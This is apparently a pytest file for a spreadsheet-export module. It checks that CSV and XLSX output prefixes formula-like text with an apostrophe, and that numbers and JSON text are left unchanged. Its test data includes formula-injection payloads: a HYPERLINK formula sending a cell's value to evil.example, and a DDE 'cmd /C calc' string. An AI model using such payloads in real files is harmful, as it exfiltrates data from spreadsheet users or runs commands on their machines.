"""Spreadsheet safety as tables: text a spreadsheet would run as a formula is made inert in CSV and
XLSX (an apostrophe before it), and nothing else is changed: numbers stay numbers, and text that
only contains ``=`` stays as written. JSON is data for programs and keeps text exactly."""

from __future__ import annotations

import csv
import io
import json
import re

import openpyxl
import pandas as pd
import pytest

from commitments.presenting.spreadsheet import (
    SOURCE_COLUMNS,
    neutralise,
    to_csv,
    to_json,
    to_xlsx,
)

# (text as written, text as a spreadsheet file holds it)
TEXTS = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'),
    ("+44 20 7219 3000", "'+44 20 7219 3000"),  # a telephone number would be summed
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("-5 arrests", "'-5 arrests"),  # text beginning with a minus, though no formula follows
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),  # a tab or a carriage return first also starts a formula
    ("\r=1+1", "'\r=1+1"),
    ("'=1+1", "'=1+1"),  # already inert: not prefixed twice
    ("1+1=2", "1+1=2"),  # an = inside the text: not a formula, untouched
    ("a = b", "a = b"),
    ("Rate: -5%", "Rate: -5%"),
    ("e-mail@example.org", "e-mail@example.org"),
    ("", ""),
]  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), TEXTS)
def test_neutralise_text(text, expected):
    assert neutralise(text) == expected


@pytest.mark.parametrize(
    "value",
    [
        -5,  # a negative number is a number, not a formula: left for the sheet to add up
        -0.5,
        -(10**12),
        0,
        True,
        None,
    ],
)
def test_neutralise_leaves_what_is_not_text(value):
    assert neutralise(value) is value


def records(**columns: list[object]) -> pd.DataFrame:
    """Records with one row per value given; ids r0, r1, ..."""
    rows = len(next(iter(columns.values())))
    return pd.DataFrame({"id": [f"r{i}" for i in range(rows)], **columns})


def csv_rows(frame: pd.DataFrame) -> list[dict[str, str]]:
    text = to_csv(frame).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def xlsx_rows(frame: pd.DataFrame, sources: pd.DataFrame | None = None) -> dict[str, list[dict]]:
    """Each sheet's rows by header; and every cell checked to be no formula."""
    if sources is None:
        sources = pd.DataFrame(columns=SOURCE_COLUMNS)
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame, sources)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert cells, "the workbook has cells"
    assert [c.coordinate for c in cells if c.data_type == "f"] == [], "no cell is a formula"
    sheets = {}
    for sheet in book:
        header, *rows = sheet.iter_rows(values_only=True)
        sheets[sheet.title] = [dict(zip(header, row, strict=True)) for row in rows]
    return sheets


def _shown(text: str) -> str:
    """The file format writes a carriage return as ``_x000D_``; a spreadsheet reads it back."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), text)


@pytest.mark.parametrize(("text", "expected"), TEXTS)
def test_csv_cells_hold_text_inert(text, expected):
    rows = csv_rows(records(title=[text], quote=[f"{text} (quoted)"], tags=[[text, "other"]]))
    assert rows[0]["title"] == expected
    assert rows[0]["quote"] == neutralise(f"{text} (quoted)")
    # a list is joined first: its first item decides
    assert rows[0]["tags"] == neutralise(f"{text}; other")


@pytest.mark.parametrize(("text", "expected"), [t for t in TEXTS if t[0]])
def test_xlsx_cells_hold_text_inert(text, expected):
    sources = pd.DataFrame({"id": ["a1"], "heading": [text], "uins": [[text]]})
    sheets = xlsx_rows(records(title=[text], tags=[[text]]), sources)
    assert _shown(sheets["Records"][0]["title"]) == expected
    assert _shown(sheets["Records"][0]["tags"]) == expected
    # the Sources sheet is made safe in the same way
    assert _shown(sheets["Sources"][0]["heading"]) == expected
    assert _shown(sheets["Sources"][0]["uins"]) == expected


def test_an_empty_text_is_an_empty_cell_in_xlsx():
    assert xlsx_rows(records(title=[""]))["Records"][0]["title"] in {"", None}


NUMBERS = [-5.0, -0.5, -1_000_000.0, 0.0, 67.0]


def test_negative_numbers_stay_numbers_in_xlsx():
    rows = xlsx_rows(records(value=NUMBERS, value_high=[-4.0, None, None, None, 1400.0]))
    values = [row["value"] for row in rows["Records"]]
    assert values == NUMBERS
    assert all(isinstance(v, int | float) for v in values), values
    assert [row["value_high"] for row in rows["Records"]] == [-4, None, None, None, 1400]


def test_negative_numbers_stay_numbers_in_csv():
    rows = csv_rows(records(value=NUMBERS))
    # every field is quoted in the file; a number is written bare inside its quotes
    assert [float(row["value"]) for row in rows] == NUMBERS
    assert not any(row["value"].startswith("'") for row in rows)


def test_csv_quotes_every_field_so_a_line_break_never_starts_a_row():
    text = to_csv(records(title=["two\nlines", "=1+1"])).decode("utf-8-sig")
    assert [row["id"] for row in csv.DictReader(io.StringIO(text, newline=""))] == ["r0", "r1"]
    assert text.splitlines()[0].startswith('"id","kind","title"')


def test_json_keeps_text_exactly_and_numbers_as_numbers():
    rows = json.loads(to_json(records(title=[t for t, _ in TEXTS], value=[-5] * len(TEXTS))))
    assert [row["title"] for row in rows] == [t for t, _ in TEXTS]
    assert {row["value"] for row in rows} == {-5}


def test_exporting_leaves_the_frame_given_untouched():
    frame = records(title=["=1+1"], tags=[["@x"]])
    before = frame.copy()
    to_csv(frame)
    to_xlsx(frame, pd.DataFrame(columns=SOURCE_COLUMNS))
    pd.testing.assert_frame_equal(frame, before)
